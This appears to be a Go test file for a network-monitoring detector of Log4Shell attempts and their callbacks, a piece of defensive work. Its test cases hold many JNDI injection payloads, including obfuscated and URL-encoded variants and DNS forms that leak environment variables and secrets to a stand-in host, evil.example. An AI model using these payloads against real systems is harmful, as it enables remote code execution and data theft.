package access

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/mirrorwatch/mirrorwatch/events"
)

func TestUnfold(t *testing.T) {
	cases := []struct{ text, scheme, host, port string }{
		{"${jndi:ldap://192.0.2.1:1389/a}", "ldap", "192.0.2.1", "1389"},
		{"Bearer ${jndi:ldap://evil.example/a}", "ldap", "evil.example", ""},
		{"${JNDI:LDAP://Evil.Example/a}", "ldap", "evil.example", ""},
		{"${${lower:j}ndi:${lower:l}dap://evil.example:389/a}", "ldap", "evil.example", "389"},
		{"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}", "rmi", "evil.example", ""},
		{"${${env:X:-j}ndi${env:X:-:}ldap${env:X:-:}//evil.example/a}", "ldap", "evil.example", ""},
		{"${${upper:j}ndi:dns://evil.example/${env:SECRET}}", "dns", "evil.example", ""},
		{"${jndi:dns://${env:USER}.evil.example/a}", "dns", "evil.example", ""},
		{"${${lower:${upper:${lower:j}}}ndi:ldap://evil.example/a}", "ldap", "evil.example", ""},
		{"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "ldap", "evil.example", ""},
		{"/?x=%2524%257Bjndi:ldap:%252F%252Fevil.example%252Fa%257D", "ldap", "evil.example", ""},
		{"/%zz?x=%24%7bjndi:ldap://evil.example/a%7d", "ldap", "evil.example", ""},
		{"${jndi:ldap://user@evil.example:389/a}", "ldap", "evil.example", "389"},
		{"${jndi:ldap://[2001:db8::1]:389/a}", "ldap", "2001:db8::1", "389"},
		{"${jndi:ldap://127.0.0.1#evil.example/a}", "ldap", "127.0.0.1", ""},
		{"${jndi:ldap://evil.example/cut", "ldap", "evil.example", ""},
		{"${jndi:${lower:l}${lower:d}ap://evil.example/${sys:java.version}}", "ldap", "evil.example", ""},
		{"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}", "ldap", "evil.example", ""},
		// What is none.
		{"", "", "", ""}, {"${user.name}", "", "", ""}, {"jndi:ldap://evil.example", "", "", ""}, {"${jndi}", "", "", ""}, {"${jndi:}", "", "", ""},
		{"${env:jndi}", "", "", ""}, {"function() ${a} {}", "", "", ""}, {strings.Repeat("${", 5000), "", "", ""}, {strings.Repeat("${${a:-}", 500), "", "", ""},
		{strings.Repeat("%25", 3000), "", "", ""},
	}
	for _, c := range cases {
		l, ok := jndi(c.text)
		if ok != (c.scheme != "") || l.Scheme != c.scheme || l.Host != c.host || l.Port != c.port {
			t.Errorf("%.60q: %+v %v; want %s %s %s", c.text, l, ok, c.scheme, c.host, c.port)
		}
	}
}

func FuzzUnfold(f *testing.F) {
	for _, s := range []string{"${jndi:ldap://a.b/c}", "${${::-j}ndi:rmi://a}", "%24%7bjndi:x", "${${lower:j}", "}${"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if l, ok := jndi(s); ok && (l.Scheme == "" || len(l.Text) > 200) {
			t.Errorf("%q gives %+v", s, l)
		}
	})
}

func request(at time.Duration, set func(*events.HTTP)) events.Record {
	r := &events.HTTP{Head: head(at, attacker, server, 8080), Method: "GET", URI: "/", UserAgent: "curl/8"}
	set(r)
	return r
}

func lookups(line string) func(*events.HTTP) {
	return func(r *events.HTTP) { r.Lookups = []string{line} }
}

func call(at time.Duration, from, to string, port uint16) events.Record {
	return &events.Conn{Head: head(at, from, to, port), IPProto: 6, ConnState: "SF"}
}

func question(at time.Duration, from, name string) events.Record {
	return &events.DNS{Head: head(at, from, "10.0.0.2", 53), Query: name}
}

func TestLog4Shell(t *testing.T) {
	attack := request(0, lookups("X-Api-Version: ${jndi:ldap://192.0.2.1:1389/a}"))
	byName := request(0, func(r *events.HTTP) { r.UserAgent = "${jndi:dns://x7.evil.example/a}" })
	cases := []struct {
		name    string
		records []events.Record
		alerts  int
		called  bool
	}{
		{"attempt", []events.Record{attack}, 1, false},
		{"attempt in the URI", []events.Record{request(0, func(r *events.HTTP) { r.URI = "/?q=%24%7Bjndi:ldap://a.example/%7D" })}, 1, false},
		{"once only", many(9, func(int) events.Record { return attack }), 1, false},
		{"next order", many(10, func(int) events.Record { return attack }), 2, false},
		{"callback", []events.Record{attack, call(time.Second, server, "192.0.2.1", 1389), call(2*time.Second, server, "192.0.2.1", 8888)}, 2, true},
		{"callback recorded before the request", []events.Record{call(time.Second, server, "192.0.2.1", 1389), attack}, 1, true},
		{"callback by name", []events.Record{byName, question(time.Second, server, "x7.evil.example")}, 2, true},
		{"callback that carries a value", []events.Record{request(0, lookups("X: ${jndi:dns://${env:USER}.evil.example/a}")), question(time.Second, server, "root.evil.example")}, 2, true},
		{"callback by the resolver", []events.Record{byName, question(time.Second, "10.0.0.2", "X7.evil.example")}, 2, true},
		{"callback that goes on", []events.Record{attack, &events.Conn{Head: head(time.Second, server, "192.0.2.1", 1389), Interim: true}}, 2, true},
		// The innocent twins, of the request or of the callback.
		{"a template", []events.Record{request(0, lookups("X: ${user.name} ${env:HOME}"))}, 0, false},
		{"contact before the attempt", []events.Record{call(-time.Minute, server, "192.0.2.1", 1389), attack}, 1, false},
		{"contact of somebody else", []events.Record{attack, call(time.Second, "10.0.0.77", "192.0.2.1", 1389)}, 1, false},
		{"contact long after", []events.Record{attack, call(time.Hour, server, "192.0.2.1", 1389)}, 1, false},
		{"contact of another", []events.Record{attack, call(time.Second, server, "192.0.2.2", 1389)}, 1, false},
	}
	for _, c := range cases {
		found := judge(NewLog4Shell(Log4ShellDefaults()), c.records)
		if len(found) != c.alerts {
			t.Errorf("%s: %d alerts, want %d", c.name, len(found), c.alerts)
			continue
		}
		if c.alerts == 0 {
			continue
		}
		f := found[len(found)-1]
		if f.Properties["callback_seen"] != c.called || f.Offenders[0].Addr.String() != attacker || f.Victims[0].Addr.String() != server || found[0].Key != f.Key {
			t.Errorf("%s: %+v", c.name, f)
		}
	}
}

func TestLog4ShellMemoryIsBounded(t *testing.T) {
	l := NewLog4Shell(Log4ShellTunables{Wait: time.Minute, Attempts: 10, Contacts: 10})
	judge(l, many(200, func(i int) events.Record {
		r := request(0, lookups(fmt.Sprintf("X: ${jndi:ldap://h%d.example/}", i))).(*events.HTTP)
		r.OrigH = r.OrigH.Next()
		for range i {
			r.OrigH = r.OrigH.Next()
		}
		return r
	}))
	judge(l, many(100, func(i int) events.Record { return question(time.Duration(i), server, fmt.Sprint(i, ".example")) }))
	if l.attempts.Len() != 10 || l.targets.Len() != 20 || len(l.recent) != 10 {
		t.Errorf("%d attempts, %d targets, %d contacts", l.attempts.Len(), l.targets.Len(), len(l.recent))
	}
}
